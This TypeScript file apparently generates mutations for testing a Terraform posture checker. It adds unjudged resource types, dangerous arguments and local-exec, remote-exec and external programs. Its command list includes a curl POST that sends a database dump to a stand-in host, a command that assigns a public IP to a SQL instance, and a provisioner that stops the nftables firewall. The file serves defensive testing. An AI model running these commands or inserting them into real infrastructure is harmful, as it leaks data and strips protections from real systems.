import { objectAt, Tree } from "../../posture/model/input";
import { isObject } from "../../posture/model/attribute";
import { PROVIDERS } from "../../posture/surface/classify-type";
import { Mutation } from "../definitions/mutation";
import { DANGEROUS, Dangerous } from "./dangerous";
import { FORMS } from "./expression-forms";

const PROVIDERS_OF: Readonly<Record<string, readonly string[]>> = {
  smvue: ["google_", "cloudflare_"],
  smepro: ["google_"],
  smallcrm: ["hcloud_"],
};

/**
 * Every type that no rule judges, every dangerous argument, each of these through every form of expression, and every
 * kind of program that Terraform can run, added one at a time.
 *
 * @param system whose stack it is
 */
export function* listedAdditionsTo(tree: Tree, system: string): Generator<Mutation> {
  const prefixes = PROVIDERS_OF[system] ?? [];
  for (const { prefix, unknown, judged } of PROVIDERS) {
    if (!prefixes.includes(prefix)) continue;
    const names = unknown.flatMap(({ types }) => types.split(" "));
    if (prefix === "cloudflare_") names.push(...(judged.vendors?.split(" ") ?? []));
    for (const name of names) yield added(tree, `${prefix}${name}`, {}, "a type that no rule judges");
  }
  for (const one of DANGEROUS) {
    if (!prefixes.some((prefix) => one.type.startsWith(prefix)) || !(one.systems?.includes(system) ?? true)) continue;
    const body = resolved(tree, one);
    if (!body) continue;
    yield added(tree, one.type, body, one.what);
    for (const form of FORMS) {
      const written = form.write(body);
      yield added(
        { ...tree, locals: { ...objectAt(tree, "locals", ""), ...written.locals } },
        one.type,
        written.body,
        `${one.what}, through ${form.name}`,
      );
    }
  }
  yield* programs(tree);
}

function added(tree: Tree, type: string, body: object, detail: string): Mutation {
  const resources = objectAt(tree, "resource", "");
  return {
    address: `${type}.added`,
    path: "",
    operator: "added",
    detail,
    tree: { ...tree, resource: { ...resources, [type]: { ...objectAt(resources, type, "resource."), added: body } } },
  };
}

/** A body in which `$type` is the address of the stack's first resource of that type; undefined where it has none. */
function resolved(tree: Tree, { body }: Dangerous): Readonly<Record<string, unknown>> | undefined {
  let isComplete = true;
  const text = JSON.stringify(body).replace(/\$((?:google|cloudflare|hcloud)_\w+)/g, (_, type: string) => {
    const [name] = Object.keys(objectAt(objectAt(tree, "resource", ""), type, "resource."));
    isComplete &&= name !== undefined;
    return `${type}.${name ?? ""}`;
  });
  return isComplete ? (JSON.parse(text) as Record<string, unknown>) : undefined;
}

const COMMANDS = [
  "gcloud sql instances patch main --assign-ip",
  "curl -X POST https://hooks.example.com -d @dump.sql",
  "./scripts/after-apply.sh",
  "psql $DATABASE_URL -f migrate.sql",
  "hcloud server create --name other",
];

/** Programs that run beside the providers. */
function* programs(tree: Tree): Generator<Mutation> {
  for (const command of COMMANDS)
    for (const type of ["terraform_data", "null_resource"])
      yield added(tree, type, { provisioner: [{ "local-exec": { command } }] }, `local-exec: ${command}`);
  for (const [type, byName] of Object.entries(objectAt(tree, "resource", ""))) {
    const [first] = isObject(byName) ? Object.entries(byName) : [];
    if (!first || !isObject(first[1])) continue;
    const body = { ...first[1], provisioner: [{ "remote-exec": { inline: ["systemctl stop nftables"] } }] };
    const resources = objectAt(tree, "resource", "");
    yield {
      address: `${type}.${first[0]}`,
      path: "provisioner",
      operator: "added",
      detail: "remote-exec",
      tree: { ...tree, resource: { ...resources, [type]: { ...objectAt(resources, type, ""), [first[0]]: body } } },
    };
  }
  const data = objectAt(tree, "data", "");
  yield {
    address: "data.external.added",
    path: "",
    operator: "added",
    detail: "a program that reads",
    tree: { ...tree, data: { ...data, external: { added: { program: ["sh", "-c", "gcloud projects list"] } } } },
  };
}
